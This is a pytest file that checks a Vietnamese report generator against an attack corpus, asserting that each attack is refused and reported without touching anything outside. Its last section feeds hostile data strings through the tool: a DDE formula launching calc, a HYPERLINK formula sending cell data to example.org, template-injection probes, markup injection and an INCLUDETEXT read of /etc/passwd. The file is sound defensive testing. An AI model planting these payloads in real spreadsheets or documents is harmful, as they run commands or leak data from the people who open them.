"""A corpus of attacks on the commands: none starts, calls, reads or writes anything outside, each is told."""

from __future__ import annotations

import fnmatch
import os
import re
import shutil
import sys
import tempfile
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl
import pytest

from reportgen.output import LOCK
from tests.support_attack_corpus import ATTACKS, QUARTER, RESULT, Attack, Place, Words, outside
from tests.support_cli import TODAY, on_day, run
from tests.support_ward import CULTURE, WARD_ID, write_ward
from tests.support_watch import Seen, watched

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="the kernel's witness is Linux's")
PROMISED = 100
FOLDER = "a folder"
LOG = re.compile(r"LỖI (\S+) (.*)")


@dataclass
class Range:
    """Where attacks take place, each once: several attacks may share one run."""

    base: Path
    outside: Path
    done: dict[Callable[[Place], Words], Seen] = field(default_factory=dict)

    def place(self) -> Place:
        """Make a working folder with the tiny ward."""
        work = Path(tempfile.mkdtemp(dir=self.base))
        (work / "data").mkdir()
        (work / "tmp").mkdir()
        write_ward(work / "data")
        return Place(work, self.outside)

    def attack(self, prepare: Callable[[Place], Words]) -> Seen:
        """Set an attack up and run its command under watch, unless that was done."""
        if prepare not in self.done:
            place = self.place()
            words = prepare(place)
            allowed = [place.work / "out", place.work / "tmp", self.base / "cache", Path("/dev/null")]
            mark = words[words.index("--out") + 1] if "--out" in words else ""
            allowed += [Path(mark), Path(mark).parent] if mark.startswith("/") else []  # what the person asked for
            before = _tree(place.work)

            def work() -> object:
                os.chdir(place.work)
                tempfile.tempdir = str(place.work / "tmp")
                told = run(*words)
                return [told.exit_code, told.codes, told.err, told.out]

            seen = watched(work, self.outside)
            written = tuple(
                path
                for path in seen.written
                if not any(path.is_relative_to(folder) for folder in allowed)
                and path.name != LOCK
                and before.get(str(path)) != FOLDER  # made only if it were not there
            )
            after = _tree(place.work)
            changed = tuple(Path(name) for name in before | after if before.get(name) != after.get(name))
            self.done[prepare] = Seen(seen.answer, seen.started, written + changed, seen.touched)
            shutil.rmtree(place.work)
        return self.done[prepare]


def _tree(work: Path) -> dict[str, object]:
    """Return what stands in a working folder, results and temporary files aside."""
    found = [path for path in work.rglob("*") if path.relative_to(work).parts[0] not in {"out", "tmp"}]
    return {
        str(p): p.readlink() if p.is_symlink() else p.read_bytes() if p.is_file() else FOLDER
        for p in found
        if p.name != LOCK
    }


@pytest.fixture(scope="module")
def grounds(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Range]:
    base = tmp_path_factory.mktemp("attacks")
    with pytest.MonkeyPatch.context() as patch:
        on_day(patch, TODAY)
        patch.setenv("REPORTGEN_CACHE", str(base / "cache"))
        made = Range(base, outside(base))
        for words in (QUARTER, (*QUARTER[:3], "--format", "xlsx"), ("status", *QUARTER[1:3])):  # all is imported
            assert run(*words, "--workspace", made.place().work).exit_code == 0
        yield made


def test_the_corpus_is_as_large_as_promised_and_no_attack_is_there_twice() -> None:
    assert len(ATTACKS) >= 2 * PROMISED
    assert [name for name, times in Counter(attack.name for attack in ATTACKS).items() if times > 1] == []


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: ascii(attack.name)[1:-1])
def test_an_attack_is_told_and_touches_nothing(attack: Attack, grounds: Range) -> None:
    seen = grounds.attack(attack.prepare)
    assert seen.answer is not None, "the command did not end by itself"
    exit_code, _, err, out = seen.answer
    assert (seen.started, seen.written, seen.touched) == ((), (), ())
    assert not (grounds.outside / "canary").exists()
    assert exit_code in {1, 2}, err + out
    told = [line for line in LOG.findall(err) if any(fnmatch.fnmatch(line[0], code) for code in attack.codes)]
    assert [line for line in told if attack.where in line[1]], err
    assert "Cách sửa: " in err
    assert not [line for line in told if line[1].isascii()]
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f\u202a-\u202e]", err + out)
    assert "Traceback" not in err
    assert "BÍ MẬT" not in err + out


# --- what is no attack yet could become one: it comes out as the text that it is ---------------------------------

INNOCENT = "Đã đăng 12 tin, bài trên Trang thông tin điện tử."
TEXTS = {
    "a formula": "=1+1",
    "a program by DDE": "=cmd|'/C calc'!A0",
    "a plus": "+1+1",
    "a minus": "-1+1|cmd",
    "an at sign": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a link": '=HYPERLINK("http://example.org/?"&A1,"x")',
    "a call": '=WEBSERVICE("http://example.org/")',
    "a tag": "{{ 7 * 7 }}",
    "a block": "{% for x in nhiem_vu %}x{% endfor %}",
    "code": "{{ cycler.__init__.__globals__ }}",
    "markup": "</w:t></w:r><w:altChunk/>",
    "an entity": "&lt;&x;]]>",
    "a field": 'INCLUDETEXT "/etc/passwd"',
}


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_a_text_of_the_data_stays_the_text_that_it_is(text: str, grounds: Range) -> None:
    place = grounds.place()
    quoted = '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'
    place.put(f"data/{WARD_ID}/progress/2026-q3/phong-van-hoa-xa-hoi.yaml", CULTURE.replace(INNOCENT, quoted))
    told = run(*QUARTER[:3], "--workspace", place.work)
    if told.exit_code:  # it may be refused with its place
        assert any(WARD_ID in line or RESULT in line for _, line in LOG.findall(told.err)), told.err
        return
    [book] = [path for path in told.paths if path.suffix == ".xlsx"]
    cells = [cell for sheet in openpyxl.load_workbook(book) for row in sheet.iter_rows() for cell in row]
    assert [cell for cell in cells if str(cell.value).startswith(text)]
    assert not [c.coordinate for c in cells if c.data_type == "f" and text.lstrip("=+-@") in str(c.value)]
